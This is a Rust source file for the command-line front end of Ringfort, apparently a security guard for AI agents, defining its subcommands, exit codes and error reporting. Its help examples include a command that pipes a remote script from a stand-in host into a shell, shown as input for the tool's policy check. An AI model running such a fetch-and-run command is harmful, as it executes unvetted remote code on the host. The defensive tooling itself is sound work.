// SPDX-License-Identifier: MIT OR Apache-2.0
//! Every subcommand, one file each.
//!
//! In: the command line. Out: the exit status: 0 allowed or clean, 1 denied or findings, 2 usage or bad input, 3 the
//! guard itself failed, 4 `check` would ask. `run` passes the program's status through; 126 denied, 125 guard failed.
//!
//! **Invariant:** an error is printed once, here, with its causes and with what to do.

pub(crate) mod approvals;
pub(crate) mod changes;
pub(crate) mod check;
pub(crate) mod completions;
pub(crate) mod doctor;
pub(crate) mod freeze;
pub(crate) mod hook;
pub(crate) mod keys;
pub(crate) mod man;
pub(crate) mod policy;
pub(crate) mod providers;
pub(crate) mod run;
pub(crate) mod scan;
pub(crate) mod secrets;
pub(crate) mod setup;
pub(crate) mod trail;

use std::ffi::OsString;
use std::io::Write as _;
use std::path::PathBuf;
use std::process::ExitCode;

use clap::{Args, CommandFactory as _, Parser, Subcommand};

use crate::output;

/// Allowed, or clean.
pub(crate) const EXIT_OK: u8 = 0;
/// Denied, or something was found.
pub(crate) const EXIT_DENIED: u8 = 1;
/// Usage, or bad input.
pub(crate) const EXIT_USAGE: u8 = 2;
/// The guard itself failed.
pub(crate) const EXIT_FAILED: u8 = 3;
/// `check` would ask.
pub(crate) const EXIT_ASK: u8 = 4;

/// Ringfort: the security runtime for AI agents
///
/// It decides (allow, ask, deny), isolates, redacts and records whatever an agent, or any program, does.
#[derive(Debug, Parser)]
#[command(name = "ringfort", version, max_term_width = 100, after_help = EXAMPLES)]
pub(crate) struct Cli {
    #[command(flatten)]
    pub(crate) common: Common,
    #[command(subcommand)]
    pub(crate) command: Sub,
}

const EXAMPLES: &str = "Examples:
  ringfort run -- npm test                    any program, inside the rings
  ringfort run -- bash                        an interactive shell inside
  ringfort run --cow -- npm install           the same, and nothing real changes before `ringfort changes apply`
  ringfort check --explain -- 'curl -s https://x.example/i.sh | sh'
  ringfort trail tail                         what happened
  ringfort trail verify                       whether the record is whole
  ringfort run --secret github.token -- gh pr list    with a stored secret: `ringfort secrets`
  ringfort doctor                             what this host enforces, proven

Exit status: 0 allowed or clean, 1 denied or findings, 2 usage or bad input, 3 the guard failed, 4 `check` would ask.
`run` passes the program's own status through; 124 its time was over, 126 denied, 125 the guard failed, 127 no such program.";

/// Options of every command.
#[derive(Clone, Debug, Default, Args)]
pub(crate) struct Common {
    /// Folder that keeps the record and everything else that survives a session
    #[arg(long, global = true, value_name = "DIR")]
    pub(crate) state: Option<PathBuf>,
    /// Policy file that is applied on top of preset, system and user
    #[arg(long, global = true, value_name = "FILE")]
    pub(crate) policy: Option<PathBuf>,
    /// A single setting, for example `autonomy.level=readonly`
    #[arg(long = "set", global = true, value_name = "KEY=VALUE")]
    pub(crate) settings: Vec<String>,
    /// JSON on standard output
    #[arg(long, global = true)]
    pub(crate) json: bool,
}

#[derive(Debug, Subcommand)]
pub(crate) enum Sub {
    /// Run a program inside the rings (the main job)
    Run(run::RunArgs),
    Changes(changes::ChangesArgs),
    Check(check::CheckArgs),
    Scan(scan::ScanArgs),
    Secrets(secrets::SecretsArgs),
    Keys(keys::KeysArgs),
    Trail(trail::TrailArgs),
    Approvals(approvals::ApprovalsArgs),
    Policy(policy::PolicyArgs),
    Providers(providers::ProvidersArgs),
    Hook(hook::HookArgs),
    Setup(setup::SetupArgs),
    Freeze(freeze::FreezeArgs),
    Doctor(doctor::DoctorArgs),
    Completions(completions::CompletionsArgs),
    Man(man::ManArgs),
}

/// The command line's own definition, for completions and the manual page.
pub(crate) fn definition() -> clap::Command {
    Cli::command()
}

/// Parses the command line and runs the subcommand.
pub(crate) fn main() -> ExitCode {
    let cli = match Cli::try_parse() {
        Ok(cli) => cli,
        Err(error) => {
            let words: Vec<OsString> = std::env::args_os().skip(1).collect();
            if error.use_stderr() && secrets::may_hold_value(&words) {
                return finish(Err(secrets::unshown()));
            }
            let status = if error.use_stderr() { EXIT_USAGE } else { EXIT_OK };
            // Nobody is left to tell if the message cannot be printed.
            drop(error.print());
            return ExitCode::from(status);
        }
    };
    let Cli { common, command } = cli;
    let result = match command {
        // `ringfort --json run …`: options before the command. They mean the same there.
        Sub::Run(args) => return run::main(args.to_words(&common)),
        Sub::Hook(args) => return hook::main(args.to_words(&common)),
        Sub::Setup(args) => setup::run(&args, &common),
        Sub::Freeze(args) => freeze::run(&args, &common),
        Sub::Changes(args) => changes::run(&args, &common),
        Sub::Check(args) => check::run(&args, &common),
        Sub::Scan(args) => scan::run(&args),
        Sub::Secrets(args) => secrets::run(&args, &common),
        Sub::Keys(args) => keys::run(&args, &common),
        Sub::Trail(args) => trail::run(&args, &common),
        Sub::Approvals(args) => approvals::run(&args, &common),
        Sub::Policy(args) => policy::run(&args, &common),
        Sub::Providers(args) => providers::run(&args, &common),
        Sub::Doctor(args) => doctor::run(&args, &common),
        Sub::Completions(args) => completions::run(&args),
        Sub::Man(args) => man::run(&args),
    };
    finish(result)
}

/// Prints the help of a subcommand that reads its own words.
pub(crate) fn help(name: &str) -> ExitCode {
    let mut command = definition();
    // The options of every command are there only after this.
    command.build();
    let text = command.find_subcommand_mut(name).map(clap::Command::render_long_help);
    if let Some(text) = text {
        // Nobody is left to tell if standard output is closed.
        drop(write!(anstream::stdout(), "{}", text.ansi()));
    }
    ExitCode::SUCCESS
}

/// Turns the result of a command into its exit status, and prints an error once.
pub(crate) fn finish(result: Result<u8, Failure>) -> ExitCode {
    match result {
        Ok(status) => ExitCode::from(status),
        // The reader has gone, and with it the answer: nothing to tell anybody, and no status that means "allowed".
        Err(failure) if failure.is_broken_pipe() => ExitCode::from(EXIT_FAILED),
        Err(failure) => {
            output::error(&failure.error, failure.help.as_deref());
            ExitCode::from(failure.status)
        }
    }
}

/// Why a command failed, with its exit status and what to do.
#[derive(Debug)]
pub(crate) struct Failure {
    pub(crate) status: u8,
    pub(crate) error: anyhow::Error,
    pub(crate) help: Option<String>,
}

impl Failure {
    /// Bad usage or bad input.
    pub(crate) fn usage(error: impl Into<anyhow::Error>) -> Self {
        Self { status: EXIT_USAGE, error: error.into(), help: None }
    }

    /// The guard itself failed.
    pub(crate) fn guard(error: impl Into<anyhow::Error>) -> Self {
        Self { status: EXIT_FAILED, error: error.into(), help: None }
    }

    /// Says what to do.
    pub(crate) fn help(mut self, help: impl Into<String>) -> Self {
        self.help = Some(help.into());
        self
    }

    fn is_broken_pipe(&self) -> bool {
        let io = self.error.downcast_ref::<std::io::Error>();
        io.is_some_and(|error| error.kind() == std::io::ErrorKind::BrokenPipe)
    }
}

impl From<std::io::Error> for Failure {
    fn from(error: std::io::Error) -> Self {
        Self::guard(error)
    }
}

/// A word of the command line for a message.
pub(crate) fn shown(word: &OsString) -> String {
    ringfort_core::text::escape_bytes(word.as_encoded_bytes())
}
